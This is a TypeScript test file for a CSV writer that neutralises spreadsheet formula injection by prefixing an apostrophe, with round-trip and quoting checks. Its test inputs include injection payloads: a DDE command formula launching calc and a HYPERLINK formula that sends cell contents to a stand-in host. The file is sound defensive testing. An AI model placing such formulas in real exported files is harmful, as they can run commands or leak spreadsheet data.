import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { csvCell, writeCsv } from './csv.ts';
import { readDelimited } from './delimited.ts';
import type { Cell } from './model.ts';

async function textOf(rows: readonly (readonly Cell[])[], options?: Parameters<typeof writeCsv>[1]): Promise<string> {
  let text = '';
  for await (const piece of writeCsv(rows, options)) text += piece;
  return text;
}

describe('a cell that a spreadsheet would calculate', () => {
  test.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
    ' =1+1',
    '\u200b=1+1',
    '\ufeff@A1',
    '\t=1+1',
    '\tcmd',
    '\rcmd',
    '\ncmd',
    '=HYPERLINK("http://x.example/?"&A1,"李")',
    "=cmd|'/C calc'!A0",
    '−1',
  ])('%j gets an apostrophe', text => {
    const [row] = readDelimited(`${csvCell(text)},end\r\n`, ',');
    expect(row).toEqual([`'${text}`, 'end']);
  });

  test.each(['李', "O'Brien", '3-2-501', '990101195002030011', '1=1', '李=王', '', '０', '～'])('%j does not', text =>
    expect(csvCell(text)).toBe(text),
  );
});

test.each([
  [-1, '-1'],
  [36.5, '36.5'],
  [0, '0'],
  [{ date: '1950-02-03' }, '1950-02-03'],
  [{ date: '1950-02-03', text: '1950.2.3' }, '1950.2.3'],
  [undefined, ''],
  ['李，王', '李，王'],
  ['李,王', '"李,王"'],
  ['他说"好"', '"他说""好"""'],
  ['李\n王', '"李\n王"'],
  [' 李', '" 李"'],
] as const)('%j is written %j', (cell, text) => expect(csvCell(cell)).toBe(text));

test('a file begins with the mark by which Excel knows it, then its header', async () => {
  expect(await textOf([['李', 1]], { header: ['姓名', '=人数'] })).toBe("\ufeff姓名,'=人数\r\n李,1\r\n");
  expect(await textOf([['李', 1]], { mark: false })).toBe('李,1\r\n');
});

test('what is written is read again, whatever it is, and never begins a formula', async () => {
  const cells = fc.array(fc.string({ unit: 'binary' }), { minLength: 2, maxLength: 5 });
  await fc.assert(
    fc.asyncProperty(fc.array(cells, { minLength: 1, maxLength: 5 }), async rows => {
      const read = readDelimited(await textOf(rows), ',');
      expect(read.map(row => row.map(text => text.replace(/^'/, '')))).toEqual(
        rows.map(row => row.map(text => text.replace(/^'/, ''))),
      );
      for (const text of read.flat()) expect(text).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
    }),
  );
});
